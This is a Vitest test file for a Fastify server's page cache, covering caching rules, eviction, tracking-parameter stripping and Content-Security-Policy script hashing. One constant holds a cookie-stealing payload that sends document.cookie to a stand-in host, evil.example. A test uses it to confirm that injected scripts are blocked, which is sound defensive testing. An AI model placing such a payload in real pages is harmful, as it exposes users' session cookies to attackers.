import compress from '@fastify/compress';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterEach, describe, expect, it } from 'vitest';
import { createContentEvents, type ContentEvents } from '#domain/content-events/content-events.ts';
import { scriptHash } from '../page-cache/http-cache.ts';
import { createPageCache, type PageCache } from './page-cache.ts';
import { registerSecurity } from './security.ts';

// The page cache with a stand-in for React Router, so each rule can be driven exactly.

const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';

interface Rendered {
  status?: number;
  headers?: Record<string, string | string[]>;
  /** receives the nonce of this render, as React puts it on the scripts it writes */
  html: (nonce: string) => string;
}

let app: FastifyInstance | null = null;
afterEach(async () => {
  await app?.close();
  app = null;
});

async function setup(maxBytes: number, page: (url: string, search: string) => Rendered) {
  const instance = Fastify({ logger: false });
  await registerSecurity(instance, { dev: false, recaptcha: false });
  await instance.register(compress, { global: true, encodings: ['br', 'gzip'], threshold: 1024 });
  const events: ContentEvents = createContentEvents();
  const cache: PageCache = createPageCache(instance, { maxBytes, security: { dev: false, recaptcha: false }, events });
  let renders = 0;
  instance.get('/*', async (request, reply) =>
    cache.serve(request, reply, {
      webRequest: () => new Request(`http://localhost${request.url}`, { headers: request.headers as Record<string, string> }),
      render: async (webRequest, nonce) => {
        renders++;
        const r = page(new URL(webRequest.url).pathname, new URL(webRequest.url).search);
        const headers = new Headers({ 'content-type': 'text/html; charset=utf-8', 'cache-control': 'private, no-cache' });
        for (const [k, v] of Object.entries(r.headers ?? {})) for (const one of [v].flat()) headers.append(k, one);
        return new Response(r.html(nonce), { status: r.status ?? 200, headers });
      },
      send: async () => {
        throw new Error('only HTML in these tests');
      },
    }),
  );
  await instance.ready();
  app = instance;
  return { app: instance, cache, events, renders: () => renders };
}

const doc = (nonce: string, extra = '') =>
  `<!doctype html><html><head><script nonce="${nonce}">window.__ctx={a:1}</script></head><body>${extra}<p>${'text '.repeat(400)}</p>` +
  `<script type="module" nonce="${nonce}">import("/assets/entry.js")</script></body></html>`;

describe('page cache', () => {
  it('never stores a reply that sets a cookie', async () => {
    const t = await setup(1024 * 1024, () => ({ headers: { 'set-cookie': ['visitor=1; Path=/'] }, html: (n) => doc(n) }));
    const first = await t.app.inject('/page');
    expect([first.headers['set-cookie']].flat()).toEqual(['visitor=1; Path=/']);
    await t.app.inject('/page');
    expect(t.renders()).toBe(2);
    expect(t.cache.store.size).toBe(0);
  });

  it('never stores a status other than 200, 301, 302 and 404', async () => {
    const t = await setup(1024 * 1024, (url) => ({ status: url === '/broken' ? 500 : url === '/gone' ? 404 : 403, html: (n) => doc(n) }));
    await t.app.inject('/broken');
    await t.app.inject('/denied');
    await t.app.inject('/gone');
    expect(t.cache.store.size).toBe(1);
    expect((await t.app.inject('/gone')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/broken')).headers['x-page-cache']).toBeUndefined();
  });

  it('never stores private areas, previews, or requests with an Authorization header', async () => {
    const t = await setup(1024 * 1024, () => ({ html: (n) => doc(n) }));
    for (const url of ['/api/x', '/auth/login', '/account', '/account/profile', '/siteadmin', '/siteadmin/pages', '/page?preview=1', '/preview/page']) {
      await t.app.inject(url);
    }
    await t.app.inject({ url: '/page', headers: { authorization: 'Bearer token' } });
    expect(t.cache.store.size).toBe(0);
  });

  it('blocks an injected inline script on stored and on freshly rendered pages: only the renderer’s scripts are hashed', async () => {
    const t = await setup(1024 * 1024, (url) => ({
      headers: url === '/fresh' ? { 'set-cookie': 'x=1' } : ({} as Record<string, string>),
      html: (n) => doc(n, `<script>${INJECTED}</script>`),
    }));
    for (const [url, state] of [
      ['/stored', 'miss'],
      ['/stored', 'hit'],
      ['/fresh', 'miss'],
    ] as const) {
      const res = await t.app.inject(url);
      if (url === '/stored') expect(res.headers['x-page-cache']).toBe(state);
      const scriptSrc = /script-src ([^;]*)/.exec(String(res.headers['content-security-policy']))![1]!.split(' ');
      expect(scriptSrc).toContain(`'${scriptHash('window.__ctx={a:1}')}'`);
      expect(scriptSrc).toContain(`'${scriptHash('import("/assets/entry.js")')}'`);
      expect(scriptSrc).not.toContain(`'${scriptHash(INJECTED)}'`);
      expect(scriptSrc.some((s) => s.includes('nonce') || s === "'unsafe-inline'")).toBe(false);
      // the marker nonce is gone from the bytes: it grants nothing and would only make them differ
      expect(res.body).not.toContain('nonce=');
    }
  });

  it('holds the memory budget, evicting the least recently used page', async () => {
    const t = await setup(120_000, (url) => ({ html: (n) => doc(n, `<p>${url} ${'x'.repeat(9_000)}${Math.random()}</p>`) }));
    for (let i = 0; i < 20; i++) {
      await t.app.inject(`/p${i}`);
      // keep the first page in use
      await t.app.inject('/p0');
      expect(t.cache.store.bytes).toBeLessThanOrEqual(120_000);
    }
    expect(t.cache.store.size).toBeGreaterThan(1);
    expect(t.cache.store.size).toBeLessThan(20);
    expect((await t.app.inject('/p0')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/p1')).headers['x-page-cache']).toBe('miss');
  });

  it('leaves tracking parameters out of the key and out of the URL it renders, and keeps the rest', async () => {
    const t = await setup(1024 * 1024, (url, search) => ({ html: (n) => doc(n, `<p>${url}${search}</p>`) }));
    const plain = await t.app.inject('/product');
    for (const url of ['/product?utm_source=mail&utm_campaign=spring', '/product?fbclid=IwAR0x', '/product?gclid=Cj0K&msclkid=1&mc_cid=2&mc_eid=3']) {
      const res = await t.app.inject(url);
      expect(res.headers['x-page-cache'], url).toBe('hit');
      expect(res.body, url).toBe(plain.body);
    }
    expect(t.renders()).toBe(1);
    // the parameters a page reads still make their own entry, rendered without the tracking ones
    const listed = await t.app.inject('/knowledge-center?q=zinc&utm_medium=email&page=2');
    expect(listed.headers['x-page-cache']).toBe('miss');
    expect(listed.body).toContain('<p>/knowledge-center?q=zinc&page=2</p>');
    expect(listed.body).not.toContain('utm_');
    expect((await t.app.inject('/knowledge-center?q=zinc&page=2')).headers['x-page-cache']).toBe('hit');
    expect((await t.app.inject('/knowledge-center?page=2&q=zinc')).headers['x-page-cache']).toBe('miss');
    expect(t.cache.store.size).toBe(3);
  });

  it('stores nothing with a budget of 0, and still answers with an ETag and a nonce', async () => {
    const t = await setup(0, () => ({ html: (n) => doc(n) }));
    const res = await t.app.inject('/page');
    await t.app.inject('/page');
    expect(t.renders()).toBe(2);
    expect(res.headers.etag).toBeTruthy();
    expect(String(res.headers['content-security-policy'])).toContain("'nonce-");
  });

  it('drops by tag when content changes, and does not keep a page rendered while it changed', async () => {
    let during: (() => void) | null = null;
    const t = await setup(1024 * 1024, () => ({
      html: (n) => {
        during?.();
        return doc(n);
      },
    }));
    await t.app.inject('/knowledge-center/a');
    await t.app.inject('/press-releases');
    t.events.changed({ kind: 'knowledge', id: 1, oldSlug: 'a', newSlug: 'a' });
    expect((await t.app.inject('/press-releases')).headers['x-page-cache']).toBe('hit');
    during = () => t.events.receive({ kind: 'knowledge', id: 1, oldSlug: 'a', newSlug: 'a' });
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('miss');
    during = null;
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('miss');
    expect((await t.app.inject('/knowledge-center/a')).headers['x-page-cache']).toBe('hit');
  });
});
